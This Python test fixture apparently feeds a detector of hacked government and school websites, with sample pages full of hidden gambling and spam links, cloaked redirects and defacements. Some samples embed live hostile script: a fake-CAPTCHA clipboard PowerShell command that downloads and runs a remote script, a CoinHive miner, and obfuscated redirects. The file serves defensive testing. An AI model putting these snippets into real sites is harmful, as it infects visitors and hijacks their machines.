"""Sites that somebody changed, in the manner of those that were seen on government names."""

from __future__ import annotations

import base64

from checks import Visitor
from checks.core.evidence.views import AddressSort
from checks.core.testing import evidence as build
from tests.checks.compromise.sites import FOOT, FRONT, MENU, Site, anchors, page

# fmt: off
CHANGED = (
    Site("opensid-artikel", [page("Website Resmi Desa Contoh",FRONT), page("Slot Gacor Hari Ini - Desa Contoh", '<div class="artikel"><h1>Slot Gacor Hari Ini Server Thailand</h1><p>Daftar situs slot gacor terpercaya dengan RTP live tertinggi. Minimal deposit 5 ribu via dana, pulsa tanpa potongan. Main mahjong ways 2, gates of olympus, scatter hitam dan raih maxwin.</p><a href="https://rajamenang88.com/register">DAFTAR</a> <a href="https://rajamenang88.com/login">LOGIN</a></div>', "/artikel/2026/3/slot-gacor")]),
    Site("balitbang-marquee-tersembunyi", [page("SMA Negeri 1 Contoh",FRONT+'<marquee width="1" height="1" scrollamount="99999"><a href="https://togelsgp.vip">togel sgp</a> <a href="https://totomacau4d.net">toto macau</a> <a href="https://bandarqq.co">bandarqq</a></marquee>')]),
    Site("joomla-footer-fontsize0", [page("RSUD Contoh",FRONT,foot=FOOT+'<div style="font-size:0;line-height:0">'+anchors(("slot777.win","slot777"),("gacormax.xyz","situs gacor"),("pragmatic.fun","pragmatic play"))+'</div>')]),
    Site("jdih-title-only-meta", [page("JDIH Kota Contoh",FRONT), page("MPO88 # Link Login Situs Slot Online Resmi Gacor Maxwin 2026","<h1>Produk Hukum</h1><p>Peraturan Daerah Nomor 3 Tahun 2021 tentang Retribusi Jasa Umum</p>","/produk-hukum/detail/33",desc="MPO88 merupakan situs slot online resmi dengan link login alternatif dan RTP live slot gacor maxwin hari ini")]),
    Site("ppid-amp-canonical", [page("PPID Kota Contoh",FRONT,head='<link rel="canonical" href="https://slot88-gacor.vercel.app/"><link rel="amphtml" href="https://amp-slot88.pages.dev/">',desc="Slot88 situs judi slot online gacor gampang menang")]),
    Site("sekolah-blogger", [page("SDN Contoh 3",FRONT+'<div class="post-body"><p>Selamat datang di blog sekolah.</p></div><div style="height:0;overflow:hidden">'+anchors(("judibola.biz","judi bola"),("agenbola99.com","agen judi bola terpercaya"),("sbobet.lol","sbobet"))+'</div>')]),
    Site("font-white", [page("Kelurahan Contoh",FRONT+'<p style="color:#ffffff;background-color:#fff">situs slot gacor <a href="https://gacor77.net">slot deposit dana</a> <a href="https://gacor78.net">rtp slot</a></p>')]),
    Site("crawler-title", [page("Dinas Sosial",FRONT)],[build.site_view(Visitor.CRAWLER,page("Toto Togel 4D: Bandar Togel Online Terpercaya",FRONT+"<p>Bandar togel online terpercaya dengan pasaran togel hongkong, togel singapore, toto macau. Login toto 4d.</p>"))]),
    Site("referer-js-redirect", [page("Dinas Sosial",FRONT+"<script>var r=document.referrer;if(r.indexOf('google.')>-1||r.indexOf('bing.')>-1){window.location.replace('https://gacor-win.site/lp/')}</script>")]),
    Site("telephone-302", [page("Dinas Sosial",FRONT)],[build.site_view(Visitor.TELEPHONE,build.redirect(f"https://{build.HOST}/","https://slotgacorku.com/?ref=go",status=302,stop=build.failure("out-of-scope","x")))]),
    Site("thai-hidden", [page("Bappeda Kota Contoh",FRONT+'<div style="display:none"><a href="https://ufabet168.co">สล็อตเว็บตรง</a> <a href="https://pgslot.bet">บาคาร่าออนไลน์ แทงบอลออนไลน์</a></div>')]),
    Site("chinese-title", [page("澳门娱乐场_真人百家乐_线上赌场官网","<p>澳门娱乐场 真人百家乐 线上赌场 体育博彩 老虎机</p>"+anchors(("aomen88.com","线上赌场"),("bjl.top","百家乐")),"/produk/77.html"),page("Dinas","x","/a")]),
    Site("japanese-shop-doorway", [page("Dinas Pertanian",FRONT)]+[page(f"ロレックス スーパーコピー 激安通販 {i}",f"<h1>ロレックス スーパーコピー 時計 専門店 {i}</h1><p>スーパーコピー ブランド 激安 通販 送料無料 ルイヴィトン コピー 偽物</p>"+anchors((f"copy{i}shop.jp","スーパーコピー")),f"/?products/{i}123.html") for i in range(4)]),
    Site("hacked-by-short", [build.page((),"<html><head><title>Hacked By Mr.Bayang404</title></head><body bgcolor=black><center><img src=x.gif><h1>Pwned by Garuda Cyber Team</h1><p>Hey admin, your security is low! We are not destroyer</p></center></body></html>")]),
    Site("defaced-inner", [page("Disdik",FRONT),build.page((),"<html><title>Touched By ./Lintang</title><body><h2>./Lintang was here</h2><p>greetz: all member indoxploit</p></body></html>",path="/upload/lintang.html")]),
    Site("diretas-indonesia", [build.page((),"<html><title>Diretas oleh Anak Bangsa</title><body><h1>Situs ini telah diretas oleh Anak Bangsa</h1><p>Maaf min, perbaiki keamanan websitenya</p></body></html>")]),
    Site("viagra-footer-hidden", [page("Perpustakaan",FRONT,foot=FOOT+'<div style="position:absolute;top:-5000px">'+anchors(("rx-pills.com","buy cialis online"),("meds24.net","cheap viagra without prescription"))+'</div>')]),
    Site("essay-injected", [page("LPSE Contoh",FRONT+'<div style="display:none;">'+anchors(("essaypro-cheap.com","write my essay"),("paperhelp4u.com","buy essay online"),("college-papers.net","essay writing service"))+'</div>')]),
    Site("fake-captcha", [page("Diskominfo",FRONT+"<div id=cf><h2>Verify you are human</h2><p>1. Press Windows + R 2. Press Ctrl + V 3. Press Enter</p></div><script>document.body.onclick=()=>navigator.clipboard.writeText('powershell -w hidden -c \"iwr https://cdn-verif.top/a.ps1|iex\"')</script>")]),
    Site("miner", [page("BKD",FRONT+"<script src='https://cdn-miner.top/coinhive.min.js'></script><script>var m=new CoinHive.Anonymous('KEY',{throttle:0.3});m.start();</script>")]),
    Site("atob-script", [page("Dishub",FRONT+"<script>eval(atob('"+base64.b64encode(b"document.write('<div style=display:none><a href=https://slotmax77.com>slot gacor maxwin</a><a href=https://togel4d.net>bandar togel online</a></div>')").decode()+"'))</script>")]),
    Site("charcode-redirect", [page("Dishub",FRONT+"<script>if(/android|iphone/i.test(navigator.userAgent)&&/google/.test(document.referrer)){location.href=String.fromCharCode("+",".join(str(ord(c)) for c in "https://slotwin88.vip/")+")}</script>")]),
    Site("shell-in-listing", [page("Arsip",FRONT),build.page((),'<html><head><title>Index of /wp-content/uploads/2025/03</title></head><body><h1>Index of /wp-content/uploads/2025/03</h1><pre><a href="?C=N;O=D">Name</a><hr><a href="/wp-content/uploads/2025/">Parent Directory</a>\n<a href="alfa.php">alfa.php</a> 2025-03-01 10:00 60K\n<a href="foto.jpg">foto.jpg</a></pre></body></html>',path="/wp-content/uploads/2025/03/")]),
    Site("lost-200-slot", [page("Bapenda",FRONT)],[build.site_view(None,page("tlk Slot Gacor Maxwin","<h1>tlk - situs slot gacor terpercaya</h1><p>slot gacor hari ini rtp live maxwin pragmatic play mahjong ways daftar deposit dana</p><a href=https://win88.bet>login</a>","/tlk"),sort=AddressSort.LOST)]),
    Site("adult-hidden", [page("Dinas PMD",FRONT+'<div style="visibility:hidden;height:1px">'+anchors(("bokepviral.icu","bokep indo viral terbaru"),("jav-sub.top","nonton bokep jav"))+'</div>')]),
    Site("leet-brands", [page("Kecamatan Contoh",FRONT+'<div style="left:-9999px;position:fixed">'+anchors(("s1otgac0r.com","S1OT G4C0R M4XW1N"),("b4ndarqq.com","B4ND4RQQ P0K3R ONL1NE"))+'</div>')]),
    Site("pinjol", [page("Dinas Koperasi",FRONT+'<div style="display:none">'+anchors(("danakilat-payday.com","payday loans online no credit check"),("quickloan24.com","instant cash loans bad credit"))+'</div>')]),
    Site("visible-banner-slot", [page("Pengadilan Contoh",'<a href="https://raja-slot88.com"><img src=/b.gif alt="Slot gacor bonus new member 100"></a><a href="https://toto-sgp.club"><img src=/c.gif alt="Togel singapore toto macau deposit pulsa"></a>'+FRONT)]),
    Site("after-html", [build.page((),'<!DOCTYPE html><html><head><title>DPRD</title></head><body>'+MENU+FRONT+FOOT+'</body></html><a href="https://rtpslot.click">rtp slot live</a> <a href="https://gacor.click">slot gacor</a> <a href="https://maxwin.click">maxwin</a>')]),
    Site("jsonld-title", [page("LUNA805 : Platform Togel Online dan Situs Toto Slot Terpercaya",FRONT,head='<script type="application/ld+json">{"@type":"Product","name":"LUNA805 Situs Toto Slot","description":"Situs toto slot togel online 4D terpercaya rtp live","brand":{"name":"LUNA805"}}</script>',desc="LUNA805 situs toto slot dan togel online terpercaya bet 100 perak")]),
    Site("title-front-only", [page("KOITOTO: Situs Toto Togel 4D Terpercaya dan Slot Gacor Resmi",FRONT)]),
    Site("crawler-redirect", [page("Dinas Sosial",FRONT)],[build.site_view(Visitor.CRAWLER,build.redirect(f"https://{build.HOST}/","https://gacor-maxwin.pro/",status=301,stop=build.failure("out-of-scope","x")))]),
)
# fmt: on
